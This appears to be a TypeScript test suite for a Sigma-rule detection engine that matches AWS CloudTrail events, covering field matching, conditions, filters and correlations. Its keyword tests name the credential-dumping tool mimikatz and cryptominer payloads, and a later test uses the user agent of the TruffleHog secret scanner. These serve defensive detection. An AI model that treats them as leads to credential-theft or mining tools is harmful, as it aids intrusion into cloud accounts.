    expect(m({ resources: [] })).toBe(false);
    // Arrays at two levels.
    const deep = field('a.b.c', 'hit');
    expect(deep({ a: [{ b: [{ c: 'miss' }, { c: 'hit' }] }, { b: [] }] })).toBe(true);
    expect(deep({ a: [{ b: [{ c: 'miss' }] }] })).toBe(false);
  });

  it('a field whose value is an array matches if any element matches', () => {
    const m = field('tags|contains', 'prod');
    expect(m({ tags: ['dev', 'PRODUCTION'] })).toBe(true);
    expect(m({ tags: ['dev', 'test'] })).toBe(false);
    const eq = field('eventName', "['A', 'B']");
    expect(eq({ eventName: ['x', 'b'] })).toBe(true);
    expect(eq({ eventName: ['x', 'y'] })).toBe(false);
  });

  // Two selections on the same field can both hold when the field is an array (any element holds), so an AND of
  // them is satisfiable by one event; the engine refuses such rules as "can never match a single event".
  it('two selections on the same array field can both hold (AND across elements)', () => {
    const m = matcher(`
      a:
        resources.ARN: 'arn:aws:s3:::bucket-a'
      b:
        resources.ARN: 'arn:aws:s3:::bucket-b'
      condition: a and b`);
    expect(m({ resources: [{ ARN: 'arn:aws:s3:::bucket-a' }, { ARN: 'arn:aws:s3:::bucket-b' }] })).toBe(true);
    expect(m({ resources: [{ ARN: 'arn:aws:s3:::bucket-a' }] })).toBe(false);
  });

  it('all over an array field needs every value held by some element', () => {
    const m = field('resources.ARN|contains|all', "['bucket-a', 'bucket-b']");
    expect(m({ resources: [{ ARN: 'arn:aws:s3:::bucket-a' }, { ARN: 'arn:aws:s3:::bucket-b' }] })).toBe(true);
    expect(m({ resources: [{ ARN: 'arn:aws:s3:::bucket-a' }, { ARN: 'arn:aws:s3:::bucket-c' }] })).toBe(false);
    expect(m({ resources: [{ ARN: 'bucket-a bucket-b' }] })).toBe(true);
  });
});

describe('objects and scalars as text', () => {
  it('an object compared with contains is its compact JSON text in record order', () => {
    const m = field('requestParameters|contains', 'Suspended');
    const rec = JSON.parse('{"requestParameters":{"bucketName":"b","VersioningConfiguration":{"Status":"Suspended"}}}');
    expect(m(rec)).toBe(true);
    expect(m({ requestParameters: { bucketName: 'b', VersioningConfiguration: { Status: 'Enabled' } } })).toBe(false);
    // Compact form: no spaces after separators, keys kept in the order of the record.
    const exact = field('requestParameters|contains', '\'"bucketName":"b","VersioningConfiguration":{"Status"\'');
    expect(exact(rec)).toBe(true);
    const reordered = JSON.parse('{"requestParameters":{"VersioningConfiguration":{"Status":"Suspended"},"bucketName":"b"}}');
    expect(exact(reordered)).toBe(false);
    const spaced = field('requestParameters|contains', '\'"bucketName": "b"\'');
    expect(spaced(rec)).toBe(false);
  });

  it('a whole object equals its JSON text', () => {
    const m = field('requestParameters', '\'{"bucketName":"b"}\'');
    expect(m({ requestParameters: { bucketName: 'b' } })).toBe(true);
    expect(m({ requestParameters: { bucketName: 'c' } })).toBe(false);
  });

  it("booleans compare by their string form ('false' matches JSON false)", () => {
    const s = field('readOnly', "'false'");
    expect(s({ readOnly: false })).toBe(true);
    expect(s({ readOnly: 'false' })).toBe(true);
    expect(s({ readOnly: true })).toBe(false);
    const b = field('readOnly', 'false');
    expect(b({ readOnly: false })).toBe(true);
    expect(b({ readOnly: 'FALSE' })).toBe(true);
    expect(b({ readOnly: 0 })).toBe(false);
  });

  it('numbers compare by their string form (5 matches "5" and 5)', () => {
    for (const yaml of ['5', "'5'"]) {
      const m = field('n', yaml);
      expect(m({ n: 5 })).toBe(true);
      expect(m({ n: '5' })).toBe(true);
      expect(m({ n: 55 })).toBe(false);
      expect(m({ n: '05' })).toBe(false);
    }
  });

  it('YAML 1.10 is the text "1.10", not the number 1.1', () => {
    const m = field('eventVersion', '1.10');
    expect(m({ eventVersion: '1.10' })).toBe(true);
    expect(m({ eventVersion: '1.1' })).toBe(false);
    expect(m({ eventVersion: 1.1 })).toBe(false);
    const list = field('eventVersion', '[1.08, 1.10]');
    expect(list({ eventVersion: '1.08' })).toBe(true);
    expect(list({ eventVersion: '1.10' })).toBe(true);
    expect(list({ eventVersion: '1.8' })).toBe(false);
  });
});

describe('null', () => {
  it('field: null matches a missing field or JSON null, not an empty string', () => {
    const m = field('errorCode', 'null');
    expect(m({})).toBe(true);
    expect(m({ errorCode: null })).toBe(true);
    expect(m({ errorCode: '' })).toBe(false);
    expect(m({ errorCode: 'null' })).toBe(false);
    expect(m({ errorCode: 'AccessDenied' })).toBe(false);
  });

  it('an empty YAML value and ~ are null too', () => {
    const m = matcher('sel:\n  errorCode:\ncondition: sel');
    expect(m({})).toBe(true);
    expect(m({ errorCode: 'x' })).toBe(false);
    expect(field('errorCode', '~')({ errorCode: null })).toBe(true);
  });

  it('a list [null, x] is an OR of the two', () => {
    const m = field('errorCode', "[null, 'AccessDenied']");
    expect(m({})).toBe(true);
    expect(m({ errorCode: null })).toBe(true);
    expect(m({ errorCode: 'accessdenied' })).toBe(true);
    expect(m({ errorCode: 'Throttling' })).toBe(false);
    expect(m({ errorCode: '' })).toBe(false);
  });

  it('null on a nested path matches when an intermediate object is missing', () => {
    const m = field('userIdentity.invokedBy', 'null');
    expect(m({ userIdentity: { type: 'IAMUser' } })).toBe(true);
    expect(m({})).toBe(true);
    expect(m({ userIdentity: { invokedBy: 'ec2.amazonaws.com' } })).toBe(false);
  });

  it('not null (filter) selects present values', () => {
    const m = matcher(`
      sel:
        eventName: GetObject
      filter:
        errorCode: null
      condition: sel and not filter`);
    expect(m({ eventName: 'GetObject', errorCode: 'AccessDenied' })).toBe(true);
    expect(m({ eventName: 'GetObject' })).toBe(false);
    expect(m({ eventName: 'GetObject', errorCode: null })).toBe(false);
  });
});

describe('keywords', () => {
  const m = matcher(`
    keywords:
      - 'mimikatz'
      - 'evil*tool'
    condition: keywords`);

  it('search every string leaf, nested too, as a case-insensitive substring', () => {
    expect(m({ userAgent: 'x MIMIKATZ y' })).toBe(true);
    expect(m({ requestParameters: { policy: { Statement: [{ Sid: 'run-mimikatz-now' }] } } })).toBe(true);
    expect(m({ a: [['deep', ['Evil-Tool']]] })).toBe(true);
    expect(m({ a: 'evil' })).toBe(false);
  });

  it('do not match keys, only values', () => {
    expect(m({ mimikatz: 'benign' })).toBe(false);
    expect(m({ nested: { mimikatz: 1 } })).toBe(false);
  });

  it('do not match records without the words', () => {
    expect(m({ eventName: 'CreateUser', userIdentity: { userName: 'alice' } })).toBe(false);
    expect(m({})).toBe(false);
  });

  it('match numbers and booleans in the record by their text', () => {
    const k = matcher("kw:\n  - '443'\n  - 'true'\ncondition: kw");
    expect(k({ port: 443 })).toBe(true);
    expect(k({ flags: { tls: true } })).toBe(true);
    expect(k({ port: 80, flags: { tls: false } })).toBe(false);
  });

  // A numeric keyword must keep its YAML text (as field values do): `1.10` is not the substring `1.1`.
  it('a numeric keyword keeps its source text (1.10 is not 1.1)', () => {
    const k = matcher('kw:\n  - 1.10\ncondition: kw');
    expect(k({ v: 'version 1.10' })).toBe(true);
    expect(k({ v: 'version 1.15' })).toBe(false);
  });

  it('combine with field selections', () => {
    const k = matcher(`
      sel:
        eventSource: ec2.amazonaws.com
      keywords:
        - 'cryptominer'
      condition: sel and keywords`);
    expect(k({ eventSource: 'ec2.amazonaws.com', requestParameters: { userData: 'start CryptoMiner' } })).toBe(true);
    expect(k({ eventSource: 's3.amazonaws.com', requestParameters: { userData: 'start CryptoMiner' } })).toBe(false);
    expect(k({ eventSource: 'ec2.amazonaws.com', requestParameters: { userData: 'start web' } })).toBe(false);
  });
});

describe('conditions', () => {
  // a, b, c are independent selections on fields a, b, c holding "1".
  const sels = 'a:\n  a: 1\nb:\n  b: 1\nc:\n  c: 1\n';
  const rec = (a: boolean, b: boolean, c: boolean): JsonObject => ({ a: a ? '1' : '0', b: b ? '1' : '0', c: c ? '1' : '0' });
  const truth = [false, true];
  const table = (condition: string, expected: (a: boolean, b: boolean, c: boolean) => boolean) => {
    const m = matcher(`${sels}condition: ${condition}`);
    for (const a of truth) for (const b of truth) for (const c of truth) {
      expect(m(rec(a, b, c)), `${condition} with a=${a} b=${b} c=${c}`).toBe(expected(a, b, c));
    }
  };

  it('and', () => table('a and b and c', (a, b, c) => a && b && c));
  it('or', () => table('a or b or c', (a, b, c) => a || b || c));
  it('not', () => table('not a and not b and not c', (a, b, c) => !a && !b && !c));
  it('keywords are case-insensitive', () => table('a AND NOT b Or c', (a, b, c) => (a && !b) || c));
  it('and binds tighter than or', () => table('a or b and c', (a, b, c) => a || (b && c)));
  it('and binds tighter than or (other side)', () => table('a and b or c', (a, b, c) => (a && b) || c));
  it('not binds tighter than and', () => table('not a and b', (a, b) => !a && b));
  it('not binds tighter than or', () => table('not a or b', (a, b) => !a || b));
  it('parentheses override precedence', () => table('(a or b) and c', (a, b, c) => (a || b) && c));
  it('not applies to a parenthesised group', () => table('not (a or b) and c', (a, b, c) => !(a || b) && c));
  it('nested parentheses', () => table('not ((a and not b) or (c and b))', (a, b, c) => !((a && !b) || (c && b))));
  it('double negation', () => table('not not a', (a) => a));

  const ofSels = 'sel_a:\n  a: 1\nsel_b:\n  b: 1\nother:\n  c: 1\n';
  const ofTable = (condition: string, expected: (a: boolean, b: boolean, c: boolean) => boolean, s = ofSels) => {
    const m = matcher(`${s}condition: ${condition}`);
    for (const a of truth) for (const b of truth) for (const c of truth) {
      expect(m(rec(a, b, c)), `${condition} with a=${a} b=${b} c=${c}`).toBe(expected(a, b, c));
    }
  };
  it('1 of sel*', () => ofTable('1 of sel_* and other', (a, b, c) => (a || b) && c));
  it('all of sel*', () => ofTable('all of sel_* or other', (a, b, c) => (a && b) || c));
  it('not 1 of sel*', () => ofTable('other and not 1 of sel_*', (a, b, c) => c && !a && !b));
  it('1 of them', () => ofTable('1 of them', (a, b, c) => a || b || c));
  it('all of them', () => ofTable('all of them', (a, b, c) => a && b && c));
  const underscore = '_hidden:\n  a: 1\nsel_b:\n  b: 1\nother:\n  c: 1\n';
  it('all of them leaves out selections whose name starts with _', () =>
    ofTable('all of them', (_a, b, c) => b && c, underscore));
  it('1 of them leaves out selections whose name starts with _', () =>
    ofTable('1 of them or (_hidden and other)', (a, b, c) => b || c || (a && c), underscore));
  it('1 of them does not fire on an _ selection alone', () => {
    const m = matcher(`${underscore}condition: 1 of them`);
    expect(m(rec(true, false, false))).toBe(false);
  });

  it('a list of conditions is an OR', () => {
    const m = matcher(`${sels}condition:\n  - a and b\n  - c`);
    for (const a of truth) for (const b of truth) for (const c of truth) expect(m(rec(a, b, c))).toBe((a && b) || c);
  });

  it('the indexed Detector agrees with many rules loaded together', () => {
    const set = loadOk(
      [
        ruleText('sel:\n  eventName: CreateUser\ncondition: sel', '', '11111111-1111-4111-8111-111111111111'),
        ruleText('sel:\n  eventName: CreateUser\nf:\n  userName: root\ncondition: sel and not f', '', '22222222-2222-4222-8222-222222222222'),
        ruleText('sel:\n  eventName|contains: User\ncondition: sel', '', '33333333-3333-4333-8333-333333333333'),
        ruleText('a:\n  eventName: DeleteUser\nb:\n  eventSource: iam.amazonaws.com\ncondition: a or b', '', '44444444-4444-4444-8444-444444444444'),
        ruleText('a:\n  eventName: [CreateUser, DeleteUser]\ncondition: not a', '', '55555555-5555-4555-8555-555555555555'),
      ].join('---\n'),
    );
    expect(set.rules).toHaveLength(5);
    const det = new Detector(set.rules);
    const recs: JsonObject[] = [
      { eventName: 'CreateUser', userName: 'root' },
      { eventName: 'createuser', userName: 'alice' },
      { eventName: 'DeleteUser', eventSource: 's3.amazonaws.com' },
      { eventName: 'PutObject', eventSource: 'iam.amazonaws.com' },
      { eventName: ['x', 'CreateUser'] },
      {},
    ];
    for (const r of recs) {
      expect(det.match(r).map((x) => x.id), JSON.stringify(r)).toEqual(set.rules.filter((x) => x.test(r)).map((x) => x.id));
    }
    // And the expectations themselves, written by hand:
    expect(det.match(recs[0]!).map((x) => x.id[0])).toEqual(['1', '3']);
    expect(det.match(recs[1]!).map((x) => x.id[0])).toEqual(['1', '2', '3']);
    expect(det.match(recs[2]!).map((x) => x.id[0])).toEqual(['3', '4']);
    expect(det.match(recs[3]!).map((x) => x.id[0])).toEqual(['4', '5']);
    expect(det.match(recs[5]!).map((x) => x.id[0])).toEqual(['5']);
  });
});

const RULE_ID = '6f0c7c2e-8a55-4f59-b0a5-3c1d2e9f8a71';
const FILTER_ID = '9a1b2c3d-4e5f-4a6b-8c7d-0e1f2a3b4c5d';

describe('meta filters (Sigma 2.1)', () => {
  const base = [
    'title: Console login',
    `id: ${RULE_ID}`,
    'name: console_login',
    'logsource:',
    '  product: aws',
    '  service: cloudtrail',
    'detection:',
    '  selection:',
    '    eventName: ConsoleLogin',
    '  condition: selection',
  ].join('\n');
  const filter = (target: string) =>
    [
      'title: Known admins',
      `id: ${FILTER_ID}`,
      'logsource:',
      '  product: aws',
      '  service: cloudtrail',
      'filter:',
      '  rules:',
      `    - ${target}`,
      '  selection:',
      '    userIdentity.userName:',
      '      - alice',
      '      - bob',
      '  condition: not selection',
    ].join('\n');

  it.each([
    ['id', RULE_ID],
    ['name', 'console_login'],
  ])('a filter naming the rule by %s is AND-ed into it', (_k, target) => {
    const set = loadOk(`${base}\n---\n${filter(target)}\n`);
    expect(set.rules).toHaveLength(1);
    expect(set.filters).toHaveLength(1);
    const r = set.rules[0]!;
    expect(verdict(r, { eventName: 'ConsoleLogin', userIdentity: { userName: 'mallory' } })).toBe(true);
    expect(verdict(r, { eventName: 'ConsoleLogin', userIdentity: { userName: 'alice' } })).toBe(false);
    expect(verdict(r, { eventName: 'ConsoleLogin', userIdentity: { userName: 'BOB' } })).toBe(false);
    expect(verdict(r, { eventName: 'GetObject', userIdentity: { userName: 'mallory' } })).toBe(false);
  });

  it('applies when the filter comes before the rule in the text', () => {
    const set = loadOk(`${filter(RULE_ID)}\n---\n${base}\n`);
    const r = set.rules[0]!;
    expect(verdict(r, { eventName: 'ConsoleLogin', userIdentity: { userName: 'alice' } })).toBe(false);
    expect(verdict(r, { eventName: 'ConsoleLogin', userIdentity: { userName: 'eve' } })).toBe(true);
  });

  it('does not touch other rules', () => {
    const other = ruleText('sel:\n  eventName: ConsoleLogin\ncondition: sel', '', '77777777-7777-4777-8777-777777777777');
    const set = loadOk(`${base}\n---\n${filter(RULE_ID)}\n---\n${other}`);
    const o = set.rules.find((r) => r.id.startsWith('7777'))!;
    expect(verdict(o, { eventName: 'ConsoleLogin', userIdentity: { userName: 'alice' } })).toBe(true);
  });

  it('a filter naming a rule that is not loaded changes nothing and is reported', () => {
    const set = loadRulesFromText(`${base}\n---\n${filter('no-such-rule')}\n`, 'f.yml');
    const r = set.rules[0]!;
    expect(verdict(r, { eventName: 'ConsoleLogin', userIdentity: { userName: 'alice' } })).toBe(true);
    expect(set.diagnostics.some((d) => d.message.includes('no-such-rule'))).toBe(true);
  });
});

describe('correlation rules', () => {
  it('parse into correlations with type, group-by and timespan, and are not detection rules', () => {
    const text = `${ruleText('sel:\n  eventName: ConsoleLogin\n  responseElements.ConsoleLogin: Failure\ncondition: sel', 'name: failed_login')}---
title: Many failed logins
id: 3d4e5f60-7a8b-4c9d-8e0f-1a2b3c4d5e6f
status: test
correlation:
  type: event_count
  rules:
    - failed_login
  group-by:
    - sourceIPAddress
    - userIdentity.arn
  timespan: 15m
  condition:
    gte: 10
level: high
`;
    const set = loadOk(text);
    expect(set.rules).toHaveLength(1);
    expect(set.rules[0]!.id).toBe(ID);
    expect(set.correlations).toHaveLength(1);
    const c = set.correlations[0]!;
    expect(c.type).toBe('event_count');
    expect(c.rules).toEqual(['failed_login']);
    expect(c.groupBy).toEqual(['sourceIPAddress', 'userIdentity.arn']);
    expect(c.timespan).toBe('15m');
    expect(c.title).toBe('Many failed logins');
    expect(c.id).toBe('3d4e5f60-7a8b-4c9d-8e0f-1a2b3c4d5e6f');
  });

  it('accept a single group-by field and the other correlation types', () => {
    for (const type of ['value_count', 'temporal', 'temporal_ordered']) {
      const set = loadOk(`title: c\nid: 3d4e5f60-7a8b-4c9d-8e0f-1a2b3c4d5e6f\ncorrelation:\n  type: ${type}\n  rules: [a, b]\n  group-by: sourceIPAddress\n  timespan: 1h\n`);
      expect(set.rules).toHaveLength(0);
      expect(set.correlations.map((c) => [c.type, c.groupBy, c.timespan])).toEqual([[type, ['sourceIPAddress'], '1h']]);
    }
  });
});

describe('identical items shared across rules', () => {
  // Rules built from a small pool of items, so many rules hold the same compiled item (detection.ts sharedFieldItem)
  // and keep its verdict per record. Each rule of the shared set must agree with the same rule compiled alone, on
  // records that repeat, change in place between records, and are evaluated inside and outside a record scope.
  const pool = [
    'eventSource: iam.amazonaws.com',
    'eventName: CreateUser',
    "eventName|startswith: 'Create'",
    "userAgent|contains: 'aws-cli'",
    "userAgent|startswith: 'aws-cli'",
    "userAgent|contains: 'Boto3'",
    'userIdentity.type: AssumedRole',
    "sourceIPAddress|cidr: '10.0.0.0/8'",
    'errorCode|exists: true',
    "requestParameters.userName|re: '^adm'",
    "eventName|endswith: 'Bucket'",
    'eventSource|fieldref: sourceIPAddress',
  ];
  const rand = (() => {
    let s = 99;
    return () => ((s = (s * 1664525 + 1013904223) >>> 0) / 2 ** 32);
  })();
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)]!;
  const detections = Array.from({ length: 60 }, () => {
    // One item per key within a selection (YAML keys are unique).
    const items = (n: number) => [...new Map(Array.from({ length: n }, () => pick(pool)).map((l) => [l.split(':')[0], l])).values()];
    const sel = items(1 + Math.floor(rand() * 3));
    const filter = items(1 + Math.floor(rand() * 2));
    const cond = pick(['sel', 'sel and not filter', 'sel or filter', 'not sel and filter', '1 of them', 'all of them', 'not (sel or filter)']);
    // a list of maps (any of them) a third of the time
    const selText = rand() < 0.33 ? sel.map((l) => `  - ${l}`).join('\n') : sel.map((l) => `  ${l}`).join('\n');
    return `sel:\n${selText}\nfilter:\n${filter.map((l) => `  ${l}`).join('\n')}\ncondition: ${cond}`;
  });
  const ids = detections.map((_, i) => `0b8e4f7e-3c52-4a3c-9d53-${String(i).padStart(12, '0')}`);
  const shared = loadRulesFromText(detections.map((d, i) => ruleText(d, '', ids[i])).join('---\n'));
  const alone = detections.map((d, i) => loadRulesFromText(ruleText(d, '', ids[i])).rules[0]!);
  // Now and then an array, null or no eventName: the detector's plans by index values must step aside or key them.
  const eventName = (): { eventName?: Json } => {
    const r = rand();
    return r < 0.04 ? {} : r < 0.08 ? { eventName: null } : r < 0.12 ? { eventName: ['CreateUser', 'ListUsers'] } : { eventName: pick(['CreateUser', 'CreateBucket', 'ListUsers', 'iam.amazonaws.com']) };
  };
  const records: JsonObject[] = Array.from({ length: 300 }, () => ({
    eventSource: pick(['iam.amazonaws.com', 's3.amazonaws.com']),
    ...eventName(),
    userAgent: pick(['aws-cli/2.15.0', 'my-aws-cli/1.0', 'Boto3/1.34.0', 'console.amazonaws.com']),
    userIdentity: { type: pick(['AssumedRole', 'IAMUser']) },
    sourceIPAddress: pick(['10.1.2.3', '203.0.113.9', 'iam.amazonaws.com']), // AWS services call as their own name
    ...(rand() < 0.3 ? { errorCode: 'AccessDenied' } : {}),
    requestParameters: { userName: pick(['admin', 'bob']) },
  }));

  it('every rule agrees with the same rule compiled alone', () => {
    expect(shared.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
    expect(shared.rules).toHaveLength(60);
    const detector = new Detector(shared.rules);
    const expected = (rec: JsonObject) => alone.filter((r) => r.test(rec)).map((r) => r.id);
    let fired = 0;
    for (const rec of records) {
      const want = expected(rec);
      fired += want.length;
      expect(detector.match(rec).map((r) => r.id)).toEqual(want);
      expect(shared.rules.filter((r) => r.test(rec)).map((r) => r.id)).toEqual(want); // outside a record scope
    }
    // One object changed between records: a verdict kept for the previous record must not be reused.
    const inPlace: JsonObject = {};
    for (const rec of records) {
      for (const k of Object.keys(inPlace)) delete inPlace[k];
      Object.assign(inPlace, rec);
      expect(detector.match(inPlace).map((r) => r.id)).toEqual(expected(rec));
    }
    expect(fired).toBeGreaterThan(300); // the rules do fire, and do not all fire
    expect(fired).toBeLessThan(records.length * 60);
  });
});

describe('plans for free-text index values', () => {
  // SigmaHQ's TruffleHog rule indexes userAgent, so the detector's plans are memoised by user agent too. Thousands
  // of distinct agents must share the plans of the candidates they give (none reads userAgent unless it is
  // TruffleHog's), and every record must still get exactly the rules whose own test holds.
  it('distinct user agents share plans, and answers match each rule alone', () => {
    const set = loadRules([join(__dirname, '../../shared/sigma-aws-rules')]);
    const detector = new Detector(set.rules);
    expect(detector.stats.fields).toContain('userAgent');
    const names = [...new Set(set.rules.flatMap((r) => (r.detection.witness?.field === 'eventName' ? [...r.detection.witness.values] : [])))];
    let fired = 0;
    const otherValues = new Set<string>(); // the index values besides the user agent, and whether it is TruffleHog's
    for (let i = 0; i < 4000; i++) {
      const rec: JsonObject = {
        eventName: names[i % names.length]!,
        eventSource: i % 3 ? 'iam.amazonaws.com' : 'lambda.amazonaws.com',
        userAgent: i % 50 === 0 ? `TruffleHog/${i}` : `aws-sdk-go/1.${i} (go1.21; linux; amd64)`,
        userIdentity: { type: i % 4 ? 'AssumedRole' : 'Root', arn: `arn:aws:sts::1:assumed-role/aws:ec2-instance/i-${i}`, sessionContext: { sessionIssuer: { type: 'Role' } } },
        sourceIPAddress: i % 7 ? '203.0.113.9' : 'AWS Internal',
        requestParameters: { layers: ['arn:aws:lambda:us-east-1:1:layer:x:1'] },
      };
      otherValues.add(JSON.stringify([rec.eventName, rec.eventSource, (rec.userIdentity as JsonObject).type, i % 50 === 0]));
      const want = set.rules.filter((r) => r.test(rec)).map((r) => r.id);
      fired += want.length;
      expect(detector.match(rec).map((r) => r.id)).toEqual(want);
    }
    expect(fired).toBeGreaterThan(1000);
    const { combinations, plans } = detector.stats;
    expect(combinations).toBeGreaterThan(3000); // nearly one combination of index values per record
    expect(plans).toBeLessThanOrEqual(otherValues.size + 50); // at most one per TruffleHog agent beyond those
    expect(plans).toBeLessThan(combinations / 5);
  });
});
